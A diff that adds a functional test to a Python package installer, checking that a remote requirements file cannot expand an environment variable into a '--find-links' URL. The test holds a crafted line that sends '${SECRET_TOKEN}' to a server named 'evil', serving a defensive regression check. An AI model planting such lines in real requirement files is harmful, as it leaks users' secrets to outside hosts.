@@ -10,6 +10,7 @@ from typing import Any
 from tests.functional.conftest import LocalIndex
 from tests.functional.engine import Engine, run
 from tests.servers import make_wheel
+from tests.servers.static import StaticServer
 
 MAIN = """\
 # -*- coding: latin-1 -*-
@@ -66,3 +67,20 @@ def summary(report: str) -> set[tuple[str, str, bool, tuple[str, ...]]]:
         )
         for each in found
     }
+
+
+def test_a_file_from_the_network_gets_no_value_of_a_variable(
+    engine: Engine, index: LocalIndex, venv: Path, tmp_path: Path
+) -> None:
+    site = tmp_path / "site"
+    site.mkdir()
+    environ = {"SECRET_TOKEN": "hunter2"}
+    with StaticServer(site) as evil:
+        stolen = f"--find-links {evil.url}/wheels/${{SECRET_TOKEN}}/links.html\n"
+        (site / "requirements.txt").write_text(f"{stolen}extra\n")
+        index.add("extra", "1.0")
+        listed = ("--installer", "none", "-r", f"{evil.url}/requirements.txt")
+        done = engine.succeeds("--venv", venv, *listed, *index.options, environ=environ)
+        assert "hunter2" not in "".join(evil.paths) + done.text
+        assert any(path.startswith("/wheels/") for path in evil.paths)
+        assert "${SECRET_TOKEN} is not replaced by the variable" in done.err
